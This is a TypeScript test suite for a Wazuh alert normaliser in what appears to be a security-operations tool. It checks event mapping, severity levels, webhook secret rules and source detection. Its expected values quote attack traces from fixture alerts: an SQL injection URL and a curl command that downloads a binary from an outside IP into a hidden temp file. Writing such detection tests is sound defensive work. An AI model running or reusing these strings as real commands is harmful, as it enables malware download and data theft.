import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sharedData } from '../../../test/helpers/data.ts';
import { silentLogger } from '../../telemetry/logger.ts';
import { readInputDocs } from '../archive.ts';
import { detectSource } from '../classify.ts';
import { SourceRegistry } from '../index.ts';
import { describeSourceConformance, normaliseText } from '../testing/conformance.ts';
import { WazuhConfig, webhookSettings } from './config.ts';
import { wazuh } from './index.ts';
import { classOfGroups, sniffWazuh } from './parse.ts';
import { WAZUH_LEVEL_BANDS, wazuhSeverity } from './severity.ts';
import { undoubleBackslashes } from './windows.ts';

const fixturesDir = join(import.meta.dirname, 'fixtures');
const fixture = (name: string) => readFileSync(join(fixturesDir, name), 'utf8');
const alertLines = fixture('alerts.json').trim().split('\n');
const alerts = alertLines.map((l) => JSON.parse(l) as Record<string, unknown>);

describeSourceConformance({ factory: wazuh, fixturesDir, sampleRecord: alerts[0] });

describe('wazuh normalisation', () => {
  const source = wazuh.create(WazuhConfig.parse({}), { logger: silentLogger() });
  const r = normaliseText(source, fixture('alerts.json'));
  const byRule = (id: string) => r.events.find((e) => e.finding?.uid === id)!;

  it('normalises every fixture alert and names each by alert id and agent id', () => {
    expect(r.deadLetters).toEqual([]);
    expect(r.events).toHaveLength(alerts.length);
    expect(byRule('5710').source_event_id).toBe(`${alerts[0]!.id}:001`);
  });

  it('maps sshd failures to Authentication with the rule as the verdict and ATT&CK from rule.mitre', () => {
    const e = byRule('5710');
    expect(e.class_uid).toBe(3002);
    expect(e.status).toBe('failure');
    expect(e.time).toBe('2026-11-21T08:14:02.517Z');
    expect(e.finding).toEqual({
      uid: '5710',
      title: 'sshd: Attempt to login using a non-existent user',
      product: 'Wazuh',
      severity: 'low',
      level: 5,
      tags: [
        'syslog',
        'sshd',
        'authentication_failed',
        'invalid_login',
        'attack.credential-access',
        'attack.lateral-movement',
      ],
      techniques: ['T1110.001', 'T1021.004'],
    });
    expect(e.src_endpoint).toEqual({ ip: '203.0.113.77', port: 50412 });
    expect(e.actor?.user?.name).toBe('oracle');
    expect(e.device).toEqual({ agent_uid: '001', hostname: 'web-01', ip: '10.0.1.15' });
    expect(e.message).toContain('Invalid user oracle from 203.0.113.77');
    expect(e.unmapped?.compliance).toMatchObject({ pci_dss: ['10.2.4', '10.2.5', '10.6.1'] });
    expect(byRule('5712').finding?.severity).toBe('high');
    expect(byRule('5715')).toMatchObject({ class_uid: 3002, status: 'success', severity_id: 1 });
  });

  it('keeps the invoking user as actor and the target of sudo aside', () => {
    const e = byRule('5402');
    expect(e.class_uid).toBe(2004);
    expect(e.actor?.user?.name).toBe('deploy');
    expect(e.unmapped?.target_user).toBe('root');
  });

  it('maps file integrity alerts to File System Activity with hashes and the who-data user and process', () => {
    const e = byRule('550');
    expect(e.class_uid).toBe(1001);
    expect(e.activity_name).toBe('modified');
    expect(e.file).toEqual({
      path: '/etc/sudoers',
      name: 'sudoers',
      size: 1824,
      hashes: {
        md5: '7f6e5d4c3b2a19080706f5e4d3c2b1a0',
        sha1: '9f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6',
        sha256: 'c0ffee00deadbeef0123456789abcdef0123456789abcdef0123456789abcdef',
      },
    });
    expect(e.actor?.user).toEqual({ name: 'deploy', uid: '1001' });
    expect(e.process).toMatchObject({ path: '/usr/bin/vim.basic', pid: 25120, parent: { pid: 25119 } });
    expect(byRule('554').file?.path).toBe('/var/www/html/uploads/img_4412.php');
  });

  it('maps web attacks to HTTP Activity: the method Wazuh stores in `protocol`, the URL and the status code', () => {
    const e = byRule('31103');
    expect(e.class_uid).toBe(4002);
    expect(e.http).toEqual({
      url: '/products.php?id=1%20union%20select%20username,password%20from%20users--',
      method: 'GET',
      status_code: 200,
    });
    expect(e.network).toBeUndefined();
    expect(e.src_endpoint?.ip).toBe('192.0.2.45');
  });

  it('maps Windows logon failures to the account that failed, and the workstation it came from', () => {
    const e = byRule('60122');
    expect(e).toMatchObject({ class_uid: 3002, status: 'failure' });
    expect(e.actor?.user).toEqual({ name: 'administrator', domain: 'CORP', uid: 'S-1-0-0' });
    expect(e.src_endpoint).toEqual({ ip: '203.0.113.201', hostname: 'KALI' });
    expect(e.metadata).toMatchObject({ event_code: '4625', log_name: 'Security' });
    expect(e.process).toBeUndefined();
  });

  it('maps Sysmon process creation with paths un-doubled, hashes split and the parent process', () => {
    const e = byRule('92008');
    expect(e.finding).toMatchObject({ severity: 'critical', level: 12, techniques: ['T1562.001'] });
    expect(e.process).toMatchObject({
      path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      name: 'powershell.exe',
      pid: 7312,
      user: 'CORP\\j.martin',
      hashes: { sha256: '9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f' },
      parent: { path: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', pid: 6604 },
    });
    expect(e.actor?.user).toEqual({ name: 'j.martin', domain: 'CORP' });
  });

  it('takes the logged-on account, not the machine account, from a logon event whatever the rule groups', () => {
    const e = byRule('92656');
    expect(e.class_uid).toBe(2004);
    expect(e.finding?.severity).toBe('critical');
    expect(e.actor?.user?.name).toBe('svc-sql');
    expect(e.src_endpoint?.ip).toBe('127.0.0.1');
  });

  it('maps Suricata alerts decoded by Wazuh and names the real host of syslog received by the manager', () => {
    const ids = byRule('86601');
    expect(ids.class_uid).toBe(2004);
    expect(ids.src_endpoint).toEqual({ ip: '192.0.2.45', port: 43120 });
    expect(ids.dst_endpoint).toEqual({ ip: '10.0.1.15', port: 80 });
    expect(ids.network).toMatchObject({ protocol: 'tcp', app_protocol: 'http' });
    const relayed = byRule('2502');
    expect(relayed.device).toEqual({ agent_uid: '000', hostname: 'core-sw-02' });
  });

  it('maps auditd commands with their arguments and the login uid', () => {
    const e = byRule('80792');
    expect(e.process).toEqual({
      path: '/usr/bin/curl',
      name: 'curl',
      pid: 31902,
      cmd_line: 'curl -s -o /tmp/.x http://198.51.100.250/x86_64',
      parent: { pid: 31877 },
    });
    expect(e.actor?.user).toEqual({ uid: '1002' });
    expect(e.status).toBe('success');
  });

  it('fills the cloud context of AWS module alerts while the Wazuh rule stays the verdict', () => {
    const aws = normaliseText(source, fixture('aws-module.ndjson'));
    expect(aws.deadLetters).toEqual([]);
    const [login, gd, hub] = aws.events;
    expect(login).toMatchObject({ class_uid: 3002, status: 'failure', activity_name: 'ConsoleLogin' });
    expect(login!.cloud).toMatchObject({
      account_uid: '111122223333',
      region: 'us-east-1',
      operation: 'ConsoleLogin',
    });
    expect(login!.actor?.user?.name).toBe('finance-ro');
    expect(gd!.device?.instance_uid).toBe('i-0d3a5f1c2b4e6a789');
    expect(gd!.dst_endpoint).toEqual({ ip: '192.0.2.77' });
    expect(gd!.finding?.uid).toBe('80303');
    expect(hub!.finding).toMatchObject({ uid: '99860', severity: 'critical' });
    expect(hub!.cloud).toMatchObject({ account_uid: '111122223333', region: 'eu-west-1' });
  });

  it('reads indexer exports (hits.hits[]._source) as alerts', () => {
    const exp = normaliseText(source, fixture('indexer-export.json'));
    expect(exp.events.map((e) => e.finding?.uid)).toEqual(['5710', '60122']);
    expect(exp.events[0]!.id).toBe(byRule('5710').id);
  });

  it('dead-letters alerts without a usable time or rule level, and keeps one with a junk port, noting it', () => {
    const bad = normaliseText(source, fixture('malformed.ndjson'));
    expect(bad.deadLetters.map((d) => d.field)).toEqual(['rule.level', 'rule.level', 'timestamp']);
    expect(bad.events).toHaveLength(1);
    expect(bad.events[0]!.src_endpoint).toEqual({ ip: '203.0.113.77' });
    expect(bad.events[0]!.unmapped?.parse_warnings).toEqual([
      { field: 'data.srcport', message: 'data.srcport must be a number, got a string' },
    ]);
  });

  it('keeps the original alert as raw, unchanged (empty members included)', () => {
    const alert = { ...alerts[0]!, data: { ...(alerts[0]!.data as object), empty: {}, list: [] } };
    const e = normaliseText(source, JSON.stringify(alert)).events[0]!;
    expect(e.raw).toEqual(alert);
  });

  it('gives the same alert from two agents two events, and the same alert twice one', () => {
    const one = normaliseText(source, alertLines[0]!).events[0]!;
    const again = normaliseText(source, alertLines[0]!).events[0]!;
    const other = { ...alerts[0]!, agent: { id: '007', name: 'web-07' } };
    const fromOther = normaliseText(source, JSON.stringify(other)).events[0]!;
    expect(again.id).toBe(one.id);
    expect(fromOther.id).not.toBe(one.id);
  });
});

describe('wazuh severity table', () => {
  it.each([
    [0, 'informational'],
    [3, 'informational'],
    [4, 'low'],
    [6, 'low'],
    [7, 'medium'],
    [9, 'medium'],
    [10, 'high'],
    [11, 'high'],
    [12, 'critical'],
    [15, 'critical'],
    [16, 'critical'],
  ] as const)('level %s is %s', (level, expected) => {
    expect(wazuhSeverity(level)).toBe(expected);
  });

  it('covers 0–16 without gaps or overlaps', () => {
    const covered = WAZUH_LEVEL_BANDS.flatMap((b) =>
      Array.from({ length: b.to - b.from + 1 }, (_, i) => b.from + i),
    );
    expect(covered).toEqual(Array.from({ length: 17 }, (_, i) => i));
    expect(() => wazuhSeverity(17)).toThrow(RangeError);
  });

  it('chooses the class from rule groups', () => {
    expect(classOfGroups(new Set(['ossec', 'syscheck_entry_added']), false).classUid).toBe(1001);
    expect(classOfGroups(new Set(['web', 'accesslog', 'authentication_failed']), true)).toEqual({
      classUid: 3002,
      status: 'failure',
    });
    expect(classOfGroups(new Set(['attack']), true).classUid).toBe(4002);
    expect(classOfGroups(new Set(['attack']), false).classUid).toBe(2004);
    expect(classOfGroups(new Set(['ids', 'suricata']), false).classUid).toBe(2004);
  });

  it('halves doubled backslashes only when every run is doubled', () => {
    expect(undoubleBackslashes('C:\\\\Windows\\\\cmd.exe')).toBe('C:\\Windows\\cmd.exe');
    expect(undoubleBackslashes('\\\\\\\\fileserver\\\\share')).toBe('\\\\fileserver\\share');
    expect(undoubleBackslashes('C:\\Windows\\\\odd')).toBe('C:\\Windows\\\\odd');
  });
});

describe('wazuh webhook settings', () => {
  const secret = 'a'.repeat(40);
  it('reads the secret from the source config, lets the environment override it, and refuses short ones', () => {
    expect(webhookSettings({}, {})).toEqual({ toleranceMs: 300_000 });
    expect(webhookSettings({ webhook_hmac_secret: secret }, {}).secret).toBe(secret);
    expect(
      webhookSettings({ webhook_hmac_secret: secret }, { AISOC_WEBHOOK_SECRET: 'b'.repeat(32) }).secret,
    ).toBe('b'.repeat(32));
    expect(() => webhookSettings({ webhook_hmac_secret: 'short' }, {})).toThrow(
      /sources\.wazuh\.webhook_hmac_secret/,
    );
    expect(() => webhookSettings({}, { AISOC_WEBHOOK_SECRET: 'short' })).toThrow(
      /AISOC_WEBHOOK_SECRET must be at least 32/,
    );
    expect(() => webhookSettings({ webhook_secret: secret }, {})).toThrow(/webhook_secret|Unrecognized/);
  });
});

describe('wazuh sniff and auto-detection', () => {
  const registry = new SourceRegistry({}, silentLogger());
  it('claims alerts, including AWS module alerts, and nothing CloudTrail, GuardDuty or Security Hub own', () => {
    for (const a of alerts) expect(sniffWazuh(a)).toBeGreaterThanOrEqual(0.9);
    for (const line of fixture('aws-module.ndjson').trim().split('\n')) {
      expect(registry.sniff(JSON.parse(line))?.type).toBe('wazuh');
    }
    const trail = {
      eventVersion: '1.09',
      eventSource: 'signin.amazonaws.com',
      eventName: 'ConsoleLogin',
      eventTime: '2026-11-21T10:58:51Z',
      userIdentity: { type: 'IAMUser' },
      awsRegion: 'us-east-1',
    };
    expect(sniffWazuh(trail)).toBe(0);
    expect(registry.sniff(trail)?.type).toBe('cloudtrail');
    const asff = JSON.parse(
      readFileSync(join(fixturesDir, '../../securityhub/fixtures/findings.json'), 'utf8'),
    );
    expect(registry.sniff(asff)?.type).toBe('securityhub');
    const gdDoc = readFileSync(
      join(fixturesDir, '../../guardduty/fixtures/wazuh-document.ndjson'),
      'utf8',
    ).split('\n')[0]!;
    expect(sniffWazuh(JSON.parse(gdDoc))).toBe(0);
    expect(registry.sniff(JSON.parse(gdDoc))?.type).toBe('guardduty');
  });
});

describe('file auto-detection across the AWS sources and Wazuh', () => {
  const registry = new SourceRegistry({}, silentLogger());
  const detect = (path: string) => readInputDocs(path).map((d) => detectSource(d, registry));
  const sourcesDir = join(fixturesDir, '../..');

  it('detects the source of every fixture file of guardduty, securityhub and wazuh', () => {
    for (const type of ['guardduty', 'securityhub', 'wazuh']) {
      const dir = join(sourcesDir, type, 'fixtures');
      for (const f of readdirSync(dir).filter((x) => !x.endsWith('.expected.json'))) {
        expect(detect(join(dir, f)), `${type}/${f}`).toEqual([type]);
      }
    }
    expect(detect(join(sourcesDir, 'cloudtrail/fixtures/records.json'))).toEqual(['cloudtrail']);
  });

  const gdFile = sharedData('guardduty', 'findings_guardduty.json');
  it.skipIf(!gdFile)("detects Wazuh's GuardDuty sample file as GuardDuty", () => {
    expect(detect(gdFile!)).toEqual(['guardduty']);
  });
});

describe('wazuh fixtures agree with the Wazuh 4.14 ruleset', () => {
  const rulesDir = sharedData('wazuh', 'ruleset', 'rules');
  it.skipIf(!rulesDir)(
    'uses real rule ids with their documented level and ATT&CK ids, and every ruleset level maps',
    () => {
      const rules = new Map<string, { level: number; mitre: string[]; description: string }>();
      for (const file of readdirSync(rulesDir!).filter((f) => f.endsWith('.xml'))) {
        const xml = readFileSync(join(rulesDir!, file), 'utf8');
        for (const m of xml.matchAll(/<rule\s+id="(\d+)"\s+level="(\d+)"[^>]*>([\s\S]*?)<\/rule>/g)) {
          const body = m[3]!;
          const mitre = [...body.matchAll(/<id>(T[\d.]+)<\/id>/g)].map((x) => x[1]!);
          const description = /<description>([\s\S]*?)<\/description>/.exec(body)?.[1] ?? '';
          rules.set(m[1]!, { level: Number(m[2]), mitre, description });
        }
      }
      expect(rules.size).toBeGreaterThan(3000);
      for (const { level } of rules.values()) expect(() => wazuhSeverity(level)).not.toThrow();
      const all = [
        ...alerts,
        ...fixture('aws-module.ndjson')
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l)),
      ];
      for (const a of all) {
        const rule = a.rule as { id: string; level: number; mitre?: { id: string[] }; description: string };
        const known = rules.get(rule.id);
        expect(known, `rule ${rule.id}`).toBeDefined();
        expect(rule.level, `level of rule ${rule.id}`).toBe(known!.level);
        expect(rule.mitre?.id ?? [], `ATT&CK ids of rule ${rule.id}`).toEqual(known!.mitre);
        // Descriptions with $(field) are filled in per alert; the static part must match.
        const staticPart = known!.description.split('$(')[0]!;
        expect(rule.description.startsWith(staticPart), `description of rule ${rule.id}`).toBe(true);
      }
    },
  );
});
